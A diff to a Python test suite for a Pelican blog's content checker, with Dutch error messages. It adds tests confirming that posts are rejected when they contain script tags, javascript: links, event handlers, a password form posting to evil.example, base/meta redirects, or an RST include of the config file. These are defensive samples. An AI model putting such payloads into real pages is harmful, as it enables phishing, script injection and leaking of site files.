@@ -150,7 +150,7 @@ MISTAKES = [
         "a slug that is no web address",
         edit(POST, "Slug: dilemmas", "Slug: Mijn Eerste Stalpost!"),
         f"content/{POST}:2: fout: de slug 'Mijn Eerste Stalpost!' kan niet in een "
-        "webadres: alleen kleine letters, cijfers en streepjes "
+        "webadres: alleen kleine letters (zonder accenten), cijfers, - en _ "
         "(schrijf Slug: mijn-eerste-stalpost)",
     ),
     (
@@ -336,6 +336,67 @@ MISTAKES = [
         )
         for written in ("-[ ] ", "- ", "- [x] ", "[ ] ")
     ),
+    (
+        "a frame",
+        in_body('<iframe src="https://x.nl/v"></iframe>'),
+        f"content/{POST}:10: fout: een ingesloten frame (<iframe>) kan niet op de "
+        "site (zet er een gewone link neer, zoals [Bekijk de video](https://...))",
+    ),
+    (
+        "a script",
+        in_body("<script>alert(1)</script>"),
+        f"content/{POST}:10: fout: een script (<script>) kan niet in een post (haal "
+        "het weg; werkbladen, checklists en formulieren komen van de site zelf)",
+    ),
+    (
+        "an inline style",
+        in_body('<p style="color:red">Rood</p>'),
+        f"content/{POST}:10: fout: eigen opmaak (style=) kan niet in een post (haal "
+        "het weg; de site verzorgt de opmaak: gebruik **vet**, *schuin* of ## koppen)",
+    ),
+    (
+        "an event handler",
+        in_body('<p onclick="go()">Klik</p>'),
+        f"content/{POST}:10: fout: de code onclick=... kan niet in een post (haal het "
+        "weg; een gewone link werkt zonder code)",
+    ),
+    (
+        "a form that posts to another site",
+        in_body('<form action="https://evil.example/steel">Wachtwoord</form>'),
+        f"content/{POST}:10: fout: de HTML-code <form> kan niet in een post (haal "
+        "het weg; schrijf tekst, koppen, lijsten, links en afbeeldingen in Markdown, "
+        "formulieren komen van de site zelf)",
+    ),
+    (
+        "a base address and a refresh",
+        in_body('<base href="https://evil.example/"><meta http-equiv="refresh">'),
+        f"content/{POST}:10: fout: de HTML-code <base> kan niet in een post (haal "
+        "het weg; schrijf tekst, koppen, lijsten, links en afbeeldingen in Markdown, "
+        "formulieren komen van de site zelf)\n"
+        f"content/{POST}:10: fout: de HTML-code <meta> kan niet in een post (haal "
+        "het weg; schrijf tekst, koppen, lijsten, links en afbeeldingen in Markdown, "
+        "formulieren komen van de site zelf)",
+    ),
+    (
+        "a javascript: link",
+        in_body("[Klik](javascript:alert(1))"),
+        f"content/{POST}:10: fout: een adres dat begint met javascript: kan niet in "
+        "een post (gebruik een webadres dat begint met https://, of mailto: voor "
+        "e-mail)",
+    ),
+    (
+        "an attribute Markdown does not make",
+        in_body('<a href="https://x.nl/" target="_blank">X</a>'),
+        f"content/{POST}:10: fout: de HTML-code target=... kan niet in een post (haal "
+        "het weg; de site geeft links en afbeeldingen zelf wat ze nodig hebben)",
+    ),
+    (
+        "a form in the summary",
+        edit(POST, "Summary: ", 'Summary: <form action="https://evil.example/"> '),
+        f"content/{POST}:6: fout: de HTML-code <form> kan niet in een post (haal "
+        "het weg; schrijf tekst, koppen, lijsten, links en afbeeldingen in Markdown, "
+        "formulieren komen van de site zelf)",
+    ),
 ]
 
 
@@ -404,30 +465,6 @@ CHECK_ONLY = [
         "lege regel komt Status: als tekst op de pagina (zet hem bij de velden "
         "bovenaan, boven de eerste lege regel)",
     ),
-    (
-        "a frame",
-        in_body('<iframe src="https://x.nl/v"></iframe>'),
-        f"content/{POST}:10: fout: een ingesloten frame (<iframe>) kan niet op de "
-        "site (zet er een gewone link neer, zoals [Bekijk de video](https://...))",
-    ),
-    (
-        "a script",
-        in_body("<script>alert(1)</script>"),
-        f"content/{POST}:10: fout: een script (<script>) kan niet in een post (haal "
-        "het weg; werkbladen, checklists en formulieren komen van de site zelf)",
-    ),
-    (
-        "an inline style",
-        in_body('<p style="color:red">Rood</p>'),
-        f"content/{POST}:10: fout: eigen opmaak (style=) kan niet in een post (haal "
-        "het weg; de site verzorgt de opmaak: gebruik **vet**, *schuin* of ## koppen)",
-    ),
-    (
-        "an event handler",
-        in_body('<p onclick="go()">Klik</p>'),
-        f"content/{POST}:10: fout: de code onclick=... kan niet in een post (haal het "
-        "weg; een gewone link werkt zonder code)",
-    ),
 ]
 
 
@@ -463,6 +500,61 @@ def test_dates_are_read_day_first_in_the_check_and_the_build(tmp_path, pristine)
     assert run_pelican(SETTINGS, [str(content), "-o", str(output)], print) == 0
     page = (output / "blog/dilemmas/index.html").read_text(encoding="utf-8")
     assert 'datetime="2025-02-01' in page and "1 februari 2025" in page
+
+
+RAW_RST = """Ruw
+###
+
+:date: 2024-01-02 10:00
+:slug: ruw
+:summary: Ruw.
+
+Tekst.
+
+.. raw:: html
+
+   <form action="https://evil.example/"><input name="wachtwoord"></form>
+
+.. include:: ../../pelicanconf.py
+   :literal:
+"""
+
+
+def test_a_restructuredtext_post_passes_no_html_or_other_file_through(
+    tmp_path, pristine
+):
+    content = project_with(tmp_path, pristine, add("posts/ruw.rst", RAW_RST.encode()))
+    shutil.copy(SETTINGS, tmp_path / "pelicanconf.py")  # what the include names
+    told: list[str] = []
+    output = tmp_path / "output"
+    assert run_pelican(SETTINGS, [str(content), "-o", str(output)], told.append) == 1
+    assert lines("\n".join(told), content) == [
+        "content/posts/ruw.rst:10: fout: HTML in een reStructuredText-post (.. raw::) "
+        "kan niet op de site (schrijf het als gewone tekst, of zet de post om naar "
+        "Markdown)"
+    ]
+    assert not (output / "blog/ruw/index.html").exists()
+    (content / "posts/ruw.rst").write_text(
+        RAW_RST.split(".. raw::")[0] + RAW_RST.split("</form>")[1]
+    )
+    told.clear()
+    assert run_pelican(SETTINGS, [str(content), "-o", str(output)], told.append) == 1
+    assert lines("\n".join(told), content) == [
+        "content/posts/ruw.rst:12: fout: een ander bestand invoegen (.. include::) kan "
+        "niet in een post (zet de tekst zelf in de post)"
+    ]
+
+
+@pytest.mark.parametrize(
+    "slug", ["jamstack--unwrapping-the-hype", "mijn_eerste_post", "2024-01-15-stal"]
+)
+def test_every_slug_a_real_blog_has_is_kept(tmp_path, pristine, capsys, slug):
+    post = f"Title: Oud\nSlug: {slug}\nDate: 01-02-2024\nSummary: Oud.\n\nTekst.\n"
+    content = project_with(tmp_path, pristine, add("posts/oud.md", post.encode()))
+    assert check_main(SETTINGS, content) == 0, capsys.readouterr().out
+    output = tmp_path / "output"
+    assert run_pelican(SETTINGS, [str(content), "-o", str(output)], print) == 0
+    assert (output / f"blog/{slug}/index.html").is_file()
 
 
 def test_a_mistake_left_in_place_stops_every_build_of_the_preview(tmp_path, pristine):
